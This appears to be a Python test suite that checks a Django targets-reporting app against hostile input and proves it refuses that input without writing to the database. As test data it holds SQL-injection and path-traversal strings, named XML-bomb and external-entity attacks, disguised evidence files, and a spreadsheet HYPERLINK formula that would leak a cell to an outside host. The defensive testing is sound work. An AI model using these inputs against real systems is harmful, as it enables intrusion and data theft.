"""Hostile input, property-based: every answer is a page, a clear message or a 404 — never a 500, never a write."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from targets import workbook
from targets.models import Actual
from targets.services.catalogue import period_get_or_create
from targets.services.entry import EntryRow, actuals_submit
from targets.services.review import actuals_approve
from tests import hostile_files

RELAXED = settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
weird_text = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        [
            "2026-Q0",
            "2026-Q5",
            "99999-Q1",
            "2026-q3",
            "' OR 1=1 --",
            "../../etc/passwd",
            "٢٠٢٦-Q3",
            "2026-Q3\x00",
            "1e308",
        ]
    ),
)
PAGES = [
    "/dashboard/",
    "/dashboard/hai-phong/",
    "/dashboard/hai-phong/kinh-te-so/",
    "/indicators/epayment_accounts/",
    "/indicators/epayment_accounts/hai-phong/",
    "/open-data/progress.json",
    "/reports/download/",
]


def _snapshot():
    return list(Actual.objects.order_by("pk").values_list("pk", "value", "status", "version"))


@pytest.fixture
def superuser_client(client, superuser, catalogue, fixed_today):
    client.force_login(superuser)
    return client


@RELAXED
@given(as_of=weird_text)
def test_any_as_of_gives_a_page_or_a_clear_message(superuser_client, as_of):
    before = _snapshot()
    for page in PAGES:
        params = {"as_of": as_of, **({"locality": "hai-phong"} if page.startswith("/reports/") else {})}
        response = superuser_client.get(page, params)
        assert response.status_code in (200, 400), (page, as_of, response.status_code)
        if response.status_code == 400:
            text = response.content.decode()
            assert "không hợp lệ" in text or "nằm ngoài" in text or "Vui lòng" in text
    assert _snapshot() == before


@RELAXED
@given(
    locality=weird_text,
    pillar=weird_text,
    year=weird_text,
    level=weird_text,
    q=weird_text,
    page=weird_text,
    sort=weird_text,
)
def test_any_catalogue_filter_gives_a_page(superuser_client, locality, pillar, year, level, q, page, sort):
    response = superuser_client.get(
        "/catalogue/",
        {
            "locality": locality,
            "pillar": pillar,
            "year": year,
            "level": level,
            "q": q,
            "page": page,
            "sort": sort,
        },
    )
    assert response.status_code in (200, 404)


@RELAXED
@given(segment=weird_text)
def test_any_path_segment_gives_a_404_not_an_error(superuser_client, segment):
    from urllib.parse import quote

    s = quote(segment.replace("/", "_"), safe="") or "x"
    for path in (
        f"/dashboard/{s}/",
        f"/indicators/{s}/",
        f"/entry/{s}/",
        f"/review/{s}/",
        f"/open-data/targets.{s}",
    ):
        assert superuser_client.get(path).status_code in (200, 301, 302, 400, 404), path


@settings(max_examples=60, deadline=None)
@given(data=st.binary(max_size=4096))
def test_random_bytes_are_refused_as_a_whole_file(data):
    meta = workbook.TemplateMeta(department_id=1, locality="hai-phong", period="2026-Q4")
    with pytest.raises(workbook.UploadError):
        workbook.read_upload(data, meta=meta, secret="s")


@pytest.fixture
def editor(client, hai_phong_finance_editor, finance_assignments, fixed_today):
    client.force_login(hai_phong_finance_editor)
    client.dept = finance_assignments[0].department
    client.template = client.get("/entry/2026-Q4/template.xlsx", {"department": client.dept.pk}).content
    return client


cell_values = st.one_of(
    st.none(),
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.text(max_size=30).map(lambda t: ILLEGAL_CHARACTERS_RE.sub("", t)),
    st.sampled_from(["=1/0", "=A1", "12,5", "1.234,5", "∞", "NaN", "-0"]),
)


printable = st.text(max_size=50).map(lambda t: ILLEGAL_CHARACTERS_RE.sub("", t))  # what Excel can hold


@RELAXED
@given(
    values=st.lists(cell_values, min_size=3, max_size=3), notes=st.lists(printable, min_size=3, max_size=3)
)
def test_random_cells_in_the_template_give_a_preview_and_write_nothing(editor, values, notes):
    wb = load_workbook(io.BytesIO(editor.template))
    ws = wb["Biểu nhập"]
    for i, (value, note) in enumerate(zip(values, notes, strict=True)):
        row = workbook.HEADER_ROW + 1 + i
        ws.cell(row=row, column=workbook.VALUE_COL).value = value
        ws.cell(row=row, column=workbook.NOTE_COL).value = note
    out = io.BytesIO()
    wb.save(out)
    before = _snapshot()
    response = editor.post(
        f"/entry/2026-Q4/import/?department={editor.dept.pk}",
        {"file": SimpleUploadedFile("b.xlsx", out.getvalue())},
    )
    assert response.status_code in (200, 400)
    assert _snapshot() == before


@RELAXED
@given(
    values=st.lists(weird_text, min_size=3, max_size=3),
    action=st.sampled_from(["draft", "submit", "submit-confirmed", "x"]),
)
def test_random_form_values_save_all_or_nothing(editor, finance_assignments, values, action):
    data = {"action": action}
    for a, v in zip(finance_assignments, values, strict=True):
        data[f"value-{a.pk}"] = v
        data[f"version-{a.pk}"] = "0"
    before = _snapshot()
    response = editor.post(f"/entry/2026-Q4/?department={editor.dept.pk}", data)
    # "submit" only asks for the confirmation (200): like a refusal (400), it writes nothing.
    assert response.status_code in ((200, 400) if action == "submit" else (302, 400))
    if response.status_code in (200, 400):
        assert _snapshot() == before
    Actual.objects.filter(period__code="2026-Q4").delete()  # the next example starts from the same state


def test_control_characters_in_a_note_are_dropped_and_exports_still_work(editor, finance_assignments):
    key = finance_assignments[0].pk
    data = {
        "action": "draft",
        f"value-{key}": "60",
        f"version-{key}": "0",
        f"note-{key}": "Theo\x1f báo cáo\x00 NHNN\nquý 4",
    }
    assert editor.post(f"/entry/2026-Q4/?department={editor.dept.pk}", data).status_code == 302
    saved = Actual.objects.get(period__code="2026-Q4", indicator=finance_assignments[0].indicator)
    assert saved.note == "Theo báo cáo NHNN\nquý 4"
    response = editor.get("/entry/2026-Q4/template.xlsx", {"department": editor.dept.pk})
    assert response.status_code == 200


# =========================================================================== issue #14: integrity under attack
# Each test reproduces an attack of the adversarial test (tests/hostile_files.py builds the files): the
# answer is a clear message and the database is as it was.

IMPORT = "/entry/2026-Q4/import/"


def _upload(client, data: bytes, name: str = "bieu.xlsx"):
    return client.post(f"{IMPORT}?department={client.dept.pk}", {"file": SimpleUploadedFile(name, data)})


def _refused_upload(client, data: bytes, message: str) -> None:
    before = _snapshot()
    response = _upload(client, data)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert _snapshot() == before
    assert "dti-import" not in client.session  # nothing waiting for a confirmation either


# --- 1. a 7 KB upload that stalled the site


def test_a_cell_at_row_two_billion_is_refused_at_once_without_opening_a_reader(editor, monkeypatch):
    def no_reader(*args, **kwargs):
        raise AssertionError("openpyxl opened a file the archive check should have refused")

    monkeypatch.setattr(workbook, "load_workbook", no_reader)
    data = hostile_files.far_row(editor.template)
    assert len(data) < 8 * 1024
    _refused_upload(
        editor,
        data,
        "Tệp có ô ở dòng 2.000.000.000, ngoài phạm vi biểu mẫu (tối đa 2.000 dòng số liệu, đến dòng 2.006)",
    )


# --- 2. malformed workbooks: "tệp Excel bị hỏng", never a 500


@pytest.mark.parametrize(
    "attack", ["billion_laughs", "external_entity", "undefined_entity", "nan_value", "control_character"]
)
def test_a_malformed_workbook_gets_the_broken_file_message_and_stores_nothing(editor, attack):
    _refused_upload(
        editor, getattr(hostile_files, attack)(editor.template), "Tệp Excel bị hỏng, không đọc được."
    )


# --- 3. length limits: web form, Excel, review, reopen, plan tasks, the database itself

NOTE_LIMIT = "Ghi chú dài tối đa 2000 ký tự (đang có 2001)."


def _entry_form(finance_assignments, note: str, url: str = "") -> dict[str, str]:
    key = finance_assignments[0].pk
    return {
        "action": "draft",
        f"value-{key}": "60",
        f"version-{key}": "0",
        f"note-{key}": note,
        f"url-{key}": url,
    }


def test_a_note_over_2000_characters_is_refused_by_the_web_form_and_nothing_is_lost(
    editor, finance_assignments
):
    note = "ệ" * 2001
    response = editor.post(
        f"/entry/2026-Q4/?department={editor.dept.pk}", _entry_form(finance_assignments, note)
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert NOTE_LIMIT in html
    assert f">{note}</textarea>" in html  # what was typed comes back, to be shortened
    assert not Actual.objects.filter(period__code="2026-Q4").exists()


def test_a_note_of_exactly_2000_characters_is_saved(editor, finance_assignments):
    response = editor.post(
        f"/entry/2026-Q4/?department={editor.dept.pk}", _entry_form(finance_assignments, "ệ" * 2000)
    )
    assert response.status_code == 302
    assert Actual.objects.get(period__code="2026-Q4").note == "ệ" * 2000


def test_an_evidence_link_over_500_characters_is_refused(editor, finance_assignments):
    url = "https://haiphong.gov.vn/" + "a" * 477  # 501 characters
    response = editor.post(
        f"/entry/2026-Q4/?department={editor.dept.pk}", _entry_form(finance_assignments, "", url=url)
    )
    assert response.status_code == 400
    assert "Đường dẫn minh chứng quá dài (tối đa 500 ký tự)." in response.content.decode()
    assert not Actual.objects.filter(period__code="2026-Q4").exists()


def test_a_note_over_the_limit_in_a_workbook_is_a_preview_error_and_cannot_be_confirmed(editor):
    response = _upload(editor, hostile_files.huge_note(editor.template, 2001))
    assert response.status_code == 200
    html = response.content.decode()
    assert "dòng 7, cột H: ghi chú dài 2.001 ký tự, tối đa 2.000 ký tự." in html
    assert not response.context["can_confirm"]
    confirm = editor.post(f"{IMPORT}?department={editor.dept.pk}", {"action": "confirm", "token": "x"})
    assert confirm.status_code == 400
    assert not Actual.objects.filter(period__code="2026-Q4").exists()


def test_a_45_mb_note_in_a_small_workbook_is_refused_with_the_file(editor):
    data = hostile_files.huge_note(editor.template, 45 * 1024 * 1024)
    assert len(data) < 100 * 1024
    _refused_upload(editor, data, "Tệp Excel giải nén quá lớn (hơn 20 MB")


@pytest.fixture
def submitted_value(hai_phong_finance_editor, hai_phong_reviewer, finance_assignments, fixed_today):
    actuals_submit(
        user=hai_phong_finance_editor,
        department=finance_assignments[0].department,
        period=period_get_or_create(code="2026-Q4"),
        rows=[
            EntryRow(
                key="a",
                indicator=finance_assignments[0].indicator,
                level=finance_assignments[0].level,
                raw_value="60",
            )
        ],
        today=fixed_today,
    )
    return Actual.objects.get(period__code="2026-Q4")


def test_a_review_comment_over_1000_characters_is_refused_and_the_value_stays_submitted(
    client, hai_phong_reviewer, submitted_value
):
    client.force_login(hai_phong_reviewer)
    history = submitted_value.history.count()
    response = client.post(
        "/review/2026-Q4/decide/",
        {
            "locality": "hai-phong",
            "actual": submitted_value.pk,
            f"version-{submitted_value.pk}": submitted_value.version,
            "decision": "return",
            "comment": "x" * 1001,
        },
        follow=True,
    )
    assert "Ý kiến, lý do dài tối đa 1000 ký tự (đang có 1001)." in response.content.decode()
    submitted_value.refresh_from_db()
    assert (submitted_value.status, submitted_value.review_comment) == ("submitted", "")
    assert submitted_value.history.count() == history


def test_a_review_comment_of_1000_characters_is_kept_whole_and_its_audit_label_fits(
    client, hai_phong_reviewer, submitted_value
):
    client.force_login(hai_phong_reviewer)
    comment = "Số liệu chưa khớp báo cáo quý. " * 32  # 1,024 characters, cut to 1,000 below
    comment = comment[:1000].strip()
    client.post(
        "/review/2026-Q4/decide/",
        {
            "locality": "hai-phong",
            "actual": submitted_value.pk,
            f"version-{submitted_value.pk}": submitted_value.version,
            "decision": "return",
            "comment": comment,
        },
    )
    submitted_value.refresh_from_db()
    assert (submitted_value.status, submitted_value.review_comment) == ("returned", comment)
    reason = submitted_value.history.first().history_change_reason
    assert len(reason) == 100 and reason.startswith("Trả lại: Số liệu chưa khớp") and reason.endswith("…")


def test_a_reopen_reason_over_1000_characters_is_refused_and_the_value_stays_approved(
    client, hai_phong_reviewer, submitted_value
):

    actuals_approve(user=hai_phong_reviewer, seen={submitted_value.pk: submitted_value.version})
    client.force_login(hai_phong_reviewer)
    response = client.post(f"/actuals/{submitted_value.pk}/reopen/", {"reason": "y" * 1001}, follow=True)
    assert "Ý kiến, lý do dài tối đa 1000 ký tự (đang có 1001)." in response.content.decode()
    submitted_value.refresh_from_db()
    assert submitted_value.status == "approved"


def test_a_task_update_over_2000_characters_is_refused_and_changes_nothing(client, catalogue, fixed_today):
    from targets.models import PlanTask
    from tests.integration import plan_data

    plan_data.load_plan86()
    task = plan_data.task("cqs-c-3")
    client.force_login(plan_data.tttt_editor())
    response = client.post(
        f"/plans/tasks/{task.pk}/", {"status": "in_progress", "note": "z" * 2001, "version": task.version}
    )
    assert response.status_code == 400
    assert NOTE_LIMIT in response.content.decode()
    assert PlanTask.objects.get(pk=task.pk).version == task.version


def test_the_database_refuses_an_over_long_note_written_around_the_services(submitted_value):
    from django.db import DataError, IntegrityError, transaction

    for field, length in (("note", 2001), ("review_comment", 1001), ("evidence_url", 501)):
        # The CHECK constraint (IntegrityError); PostgreSQL's varchar(500) answers first for the link.
        with pytest.raises((IntegrityError, DataError)), transaction.atomic():
            Actual.objects.filter(pk=submitted_value.pk).update(**{field: "h" * length})
    submitted_value.refresh_from_db()
    assert submitted_value.note == ""


def test_the_largest_entry_form_at_every_limit_fits_what_the_server_accepts(editor, finance_assignments):
    """A refused request loses what was typed: the biggest form a department can have — every indicator
    at every level, every note and link at its limit in 3-byte characters — stays within the upload limits."""
    from django.conf import settings as django_settings
    from django.test.client import BOUNDARY, encode_multipart

    from targets.limits import NOTE_MAX_CHARS, URL_MAX_CHARS
    from targets.models import Indicator, Level

    rows = Indicator.objects.count() * len(Level.values)
    data = {"csrfmiddlewaretoken": "x" * 64, "action": "draft", "department": "1"}
    for i in range(rows):
        data |= {
            f"value-{i}": "1.234.567,8912",
            f"version-{i}": "123456",
            f"note-{i}": "ệ" * NOTE_MAX_CHARS,
            f"url-{i}": "h" * URL_MAX_CHARS,
            f"confirm-{i}": "1",
        }
    body = encode_multipart(BOUNDARY, data)
    # 127 indicators (66 of the cities' documents, issue #16; 61 national-only ones, issue #21) × 4 levels.
    assert rows == 508 and len(data) == 2543
    assert len(data) < django_settings.DATA_UPLOAD_MAX_NUMBER_FIELDS
    assert len(body) < django_settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    # And the form itself never takes more than the limits.
    html = editor.get(f"/entry/2026-Q4/?department={editor.dept.pk}").content.decode()
    assert html.count('maxlength="2000"') == 3 and html.count('maxlength="500"') == 3


# --- 4. formulas travelling into the template


def test_a_note_beginning_with_equals_is_written_into_the_template_as_text(editor, finance_assignments):
    attack = '=HYPERLINK("https://example.com/?k="&A7,"Bấm để xem hướng dẫn")'
    editor.post(f"/entry/2026-Q4/?department={editor.dept.pk}", _entry_form(finance_assignments, attack))
    assert Actual.objects.get(period__code="2026-Q4").note == attack
    response = editor.get("/entry/2026-Q4/template.xlsx", {"department": editor.dept.pk})
    ws = load_workbook(io.BytesIO(response.content))["Biểu nhập"]
    notes = [row[workbook.NOTE_COL - 1] for row in ws.iter_rows(min_row=workbook.HEADER_ROW + 1)]
    cell = next(c for c in notes if c.value)
    assert (cell.data_type, cell.value) == ("s", attack)
    assert [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"] == []


def test_a_task_note_beginning_with_equals_is_text_in_the_reports_task_sheet(
    client, hai_phong_reviewer, fixed_today
):
    from targets.models import PlanTask
    from tests.integration import plan_data

    attack = '=HYPERLINK("https://example.com","Xem")'
    plan_data.load_plan86()
    PlanTask.objects.filter(code="cqs-c-3").update(progress_note=attack)
    client.force_login(hai_phong_reviewer)
    response = client.get("/reports/download/", {"locality": "hai-phong", "as_of": "2026-Q3"})
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == attack]
    assert cells and all(c.data_type == "s" for c in cells)
    assert [
        c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"
    ] == []


# --- 5. evidence checked by parsing the whole file, stored under the type found


@pytest.mark.parametrize(
    ("name", "make", "message"),
    [
        ("bao-cao.html", hostile_files.pdf_with_html, "không phải PDF hợp lệ"),
        ("anh.gif", hostile_files.gif_with_javascript, "không phải ảnh GIF hợp lệ"),
        ("bao-cao.docx", hostile_files.docx_without_main_part, "không phải tài liệu Office hợp lệ"),
        (
            "bao-cao.docx",
            hostile_files.zip_named_docx,
            "phải là PDF, ảnh (PNG, JPEG, GIF, WebP) hoặc tài liệu",
        ),
    ],
)
def test_a_file_that_only_starts_like_evidence_is_refused_and_nothing_is_stored(
    editor, finance_assignments, name, make, message
):
    import os

    from django.conf import settings as django_settings

    key = finance_assignments[0].pk
    data = _entry_form(finance_assignments, "") | {f"file-{key}": SimpleUploadedFile(name, make())}
    stored_before = (
        sorted(os.listdir(django_settings.MEDIA_ROOT / "evidence"))
        if (django_settings.MEDIA_ROOT / "evidence").exists()
        else []
    )
    response = editor.post(f"/entry/2026-Q4/?department={editor.dept.pk}", data)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Actual.objects.filter(period__code="2026-Q4").exists()
    evidence = django_settings.MEDIA_ROOT / "evidence"
    assert (sorted(os.listdir(evidence)) if evidence.exists() else []) == stored_before


def test_a_real_pdf_named_html_is_stored_and_downloaded_as_a_pdf(editor, finance_assignments):
    import re

    key = finance_assignments[0].pk
    upload = SimpleUploadedFile("bao-cao.html", hostile_files.real_pdf(), content_type="text/html")
    data = _entry_form(finance_assignments, "") | {f"file-{key}": upload}
    assert editor.post(f"/entry/2026-Q4/?department={editor.dept.pk}", data).status_code == 302
    saved = Actual.objects.get(period__code="2026-Q4")
    assert re.fullmatch(r"evidence/[0-9a-f]{32}\.pdf", saved.evidence_file.name)
    assert saved.evidence_name == "bao-cao.pdf"
    download = editor.get(f"/actuals/{saved.pk}/evidence/")
    assert download["Content-Disposition"] == 'attachment; filename="bao-cao.pdf"'


def test_a_task_evidence_file_is_stored_under_the_type_found(client, catalogue, fixed_today):
    import re

    from targets.models import PlanTask
    from tests.integration import plan_data

    plan_data.load_plan86()
    task = plan_data.task("cqs-c-3")
    client.force_login(plan_data.tttt_editor())
    refused = client.post(
        f"/plans/tasks/{task.pk}/",
        {
            "status": "done",
            "note": "Đã nghiệm thu",
            "version": task.version,
            "evidence_file": SimpleUploadedFile("bien-ban.pdf", hostile_files.pdf_with_html()),
        },
    )
    assert refused.status_code == 400 and "không phải PDF hợp lệ" in refused.content.decode()
    assert PlanTask.objects.get(pk=task.pk).version == task.version
    client.post(
        f"/plans/tasks/{task.pk}/",
        {
            "status": "done",
            "note": "Đã nghiệm thu",
            "version": task.version,
            "evidence_file": SimpleUploadedFile("anh.html", hostile_files.real_png()),
        },
    )
    task.refresh_from_db()
    assert re.fullmatch(r"evidence/[0-9a-f]{32}\.png", task.evidence_file.name)
    assert task.evidence_name == "anh.png"


# --- 12. smaller findings


def test_a_department_choice_that_is_not_a_number_gets_a_message_and_changes_nothing(
    client, hai_phong_reviewer, finance_assignments, fixed_today
):
    from targets.models import Assignment

    before = sorted(Assignment.objects.values_list("department_id", "indicator_id", "level"))
    client.force_login(hai_phong_reviewer)
    page = client.get("/review/assignments/", {"locality": "hai-phong"})
    series = page.context["series"]
    first = next(s for s in series if s.department_id is None)  # a change that would be saved…
    second = next(s for s in series if s is not first)  # …if this choice were not "²"
    data = {"locality": "hai-phong", f"dept-{first.key}": str(finance_assignments[0].department_id)}
    data[f"dept-{second.key}"] = "²"
    response = client.post("/review/assignments/?locality=hai-phong", data, follow=True)
    assert response.status_code == 200
    assert "không hợp lệ: chưa thay đổi phân công nào." in response.content.decode()
    assert sorted(Assignment.objects.values_list("department_id", "indicator_id", "level")) == before


OPEN_ON_2026_11_22 = {"2026-Q4", "2026-Q3", "2026-Q2", "2026-Q1", "2025-Q4", "2025"}
period_codes = st.builds(
    lambda year, quarter: f"{year}-Q{quarter}" if quarter else str(year),
    st.integers(min_value=2015, max_value=2035),
    st.sampled_from([0, 1, 2, 3, 4]),
).filter(lambda code: code not in OPEN_ON_2026_11_22)


@RELAXED
@given(code=period_codes, action=st.sampled_from(["draft", "submit", "submit-confirmed"]))
def test_no_value_is_stored_for_a_period_the_worklist_does_not_offer(
    editor, finance_assignments, code, action
):
    """Issue #14, item 8: posting to /entry/2015-Q1/ (or any period the worklist does not offer) stored
    values that no reviewer saw. Every such post is refused with a message; nothing is written."""
    data = {"action": action}
    for a in finance_assignments:
        data[f"value-{a.pk}"] = "60"
        data[f"version-{a.pk}"] = "0"
    before = _snapshot()
    response = editor.post(f"/entry/{code}/?department={editor.dept.pk}", data)
    assert response.status_code == 400
    assert code in response.content.decode() and "Chưa lưu gì" in response.content.decode()
    assert _snapshot() == before
